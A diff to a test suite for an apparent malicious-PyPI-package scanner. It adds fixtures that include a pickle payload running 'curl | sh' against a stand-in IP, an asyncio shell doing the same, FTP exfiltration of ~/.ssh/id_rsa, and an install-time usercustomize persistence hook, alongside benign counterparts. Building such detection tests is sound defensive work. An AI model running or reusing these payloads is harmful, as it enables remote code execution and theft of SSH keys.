@@ -79,9 +79,9 @@ test('SET2 even half (tuned): 26/26 BLOCKED (11/26 before)', async () => {
 });
 
 /** The held-out half's count after tuning (measured once, at the end): a floor, never a per-variant assertion. */
-const ODD_FLOOR = 19;
+const ODD_FLOOR = 22;
 
-test('SET2 odd half (held out): ≥ 19/25 BLOCKED (18/25 before; count only)', async () => {
+test('SET2 odd half (held out): ≥ 22/25 BLOCKED (18/25 before; count only)', async () => {
   let n = 0;
   for (const [i, v] of PYPI_VARIANTS_SET2.entries()) if (i % 2 === 1 && (await rate(v)).level === 'BLOCKED') n++;
   assert.ok(n >= ODD_FLOOR, `${n}/25 held-out variants BLOCKED (floor ${ODD_FLOOR})`);
@@ -356,6 +356,56 @@ test('a key-named parameter sent to a fixed IP address is BLOCKED; an SDK postin
     sdist('localagent', {
       'localagent/__init__.py':
         "import requests\n\n\ndef register(api_key, port=8126):\n    return requests.post(f'http://127.0.0.1:{port}/v1/register', json={'key': api_key}, timeout=2)\n",
+    }),
+  );
+});
+
+// ---- other shapes of the brief's families, with no even-index miss of their own --------------------------
+
+test('a pickle the package ships that imports a process starter is BLOCKED; a data pickle or one in tests is not', async () => {
+  const evil = Buffer.from('8004953a000000000000008c05706f736978948c0673797374656d9493948c1f6375726c202d7320687474703a2f2f3139322e302e322e392f78207c20736894859452942e', 'hex');
+  const data = Buffer.from('80049520000000000000007d94288c0161945d94284b014b024b03658c0162948c0673797374656d94752e', 'hex');
+  await blocked(
+    sdist('tinymodel', {
+      'tinymodel/__init__.py': "import os, pickle\n\nwith open(os.path.join(os.path.dirname(__file__), 'weights.pkl'), 'rb') as fh:\n    WEIGHTS = pickle.load(fh)\n",
+      'tinymodel/weights.pkl': evil,
+    }),
+    'pickle_code_exec',
+  );
+  // Protocol 0 (text GLOBAL opcode) too.
+  await blocked(sdist('oldpickle', { 'oldpickle/__init__.py': '', 'oldpickle/state.pickle': Buffer.from("csubprocess\nPopen\n(lp0\nVid\np1\natp2\nRp3\n.", 'latin1') }), 'pickle_code_exec');
+  await honest(twin('twin-pickle-cache-own-files'));
+  await honest(sdist('datapickle', { 'datapickle/__init__.py': '', 'datapickle/table.pkl': data }));
+  await honest(sdist('picklescan-lite', { 'picklescan_lite/__init__.py': '', 'tests/data/malicious.pkl': evil }));
+});
+
+test('other process starters and transports: asyncio shell, FTP upload of a key, usercustomize written at install', async () => {
+  await blocked(
+    sdist('aiowarm', {
+      'aiowarm/__init__.py': "import asyncio\n\n\nasync def _w():\n    await asyncio.create_subprocess_shell('curl -fsSL http://203.0.113.12/i | sh')\n\ntry:\n    asyncio.run(_w())\nexcept Exception:\n    pass\n",
+    }),
+  );
+  await blocked(
+    sdist('ftpsync', {
+      'ftpsync/__init__.py':
+        "import ftplib, os\n\n_k = os.path.expanduser('~/.ssh/id_rsa')\nif os.path.exists(_k):\n    ftp = ftplib.FTP('198.51.100.140')\n    ftp.login('anonymous', 'x')\n    ftp.storbinary('STOR k.bin', open(_k, 'rb'))\n",
+    }),
+    'credential_exfil_flow',
+  );
+  await blocked(
+    sdist('sitehook', {
+      'setup.py':
+        "import os, site\nfrom setuptools import setup\nd = site.getusersitepackages()\nos.makedirs(d, exist_ok=True)\nwith open(os.path.join(d, 'usercustomize.py'), 'w') as f:\n    f.write('import sitehook._boot\\n')\nsetup(name='sitehook', version='1.0.0', packages=['sitehook'])\n",
+      'sitehook/__init__.py': '',
+      'sitehook/_boot.py': '',
+    }),
+    'persistence_write',
+  );
+  await honest(twin('twin-terminal-recorder-pty'));
+  await honest(twin('twin-smtp-mailer'));
+  await honest(
+    sdist('ftpmirror', {
+      'ftpmirror/__init__.py': "import ftplib\n\n\ndef mirror(host, path):\n    ftp = ftplib.FTP(host)\n    ftp.login()\n    with open(path, 'rb') as fh:\n        ftp.storbinary('STOR ' + path, fh)\n",
     }),
   );
 });
